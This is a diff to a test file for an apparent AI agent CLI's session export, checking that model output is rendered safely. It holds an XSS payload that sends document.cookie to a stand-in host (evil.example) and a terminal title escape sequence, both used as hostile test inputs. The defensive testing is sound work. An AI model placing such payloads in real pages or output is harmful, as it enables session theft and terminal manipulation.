@@ -7,6 +7,8 @@ import { tempProject } from "./support/temp_project.ts";
 import { testNeeding } from "./support/requires.ts";
 
 const env = (url: string) => ({ TERN_BASE_URL: url, TERN_API_KEY: "k", TERN_MODEL: "fake-model" });
+/** What a model (or a page it quotes) may say: an escape that sets a terminal's title. */
+const TITLE_ESCAPE = "title \x1b]0;pwned\x07 here";
 const HOSTILE =
   '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)"><script>alert(1)</script>';
 
@@ -27,7 +29,7 @@ async function sessionProject() {
         { name: "edit_file", arguments: '{"path":"b.txt","old_text":"x","new_text":"y"}' },
       ],
     },
-    { text: "Done: a.txt now says **new line**." },
+    { text: `Done: a.txt now says **new line**. ${TITLE_ESCAPE}` },
     { text: "The fork goes on." },
   ]);
   const run = await runTern({
@@ -61,6 +63,8 @@ Deno.test("tern sessions export renders the conversation, reasoning, calls, resu
   assertStringIncludes(md.stdout, "Change asked for (not made) to `b.txt`:");
   assertStringIncludes(md.stdout, "Done: a.txt now says **new line**.");
   assertStringIncludes(md.stdout, HOSTILE); // inside a fence: text, not markup
+  assertStringIncludes(md.stdout, "title ␛]0;pwned␇ here"); // no escape acts on a terminal that shows it
+  assert(!md.stdout.includes("\x1b"));
   const html = await exported(project.root, model.url, id, "html");
   assertEquals(html.code, 0, html.stderr);
   assertStringIncludes(html.stdout, `content="default-src 'none'; style-src 'unsafe-inline'"`);
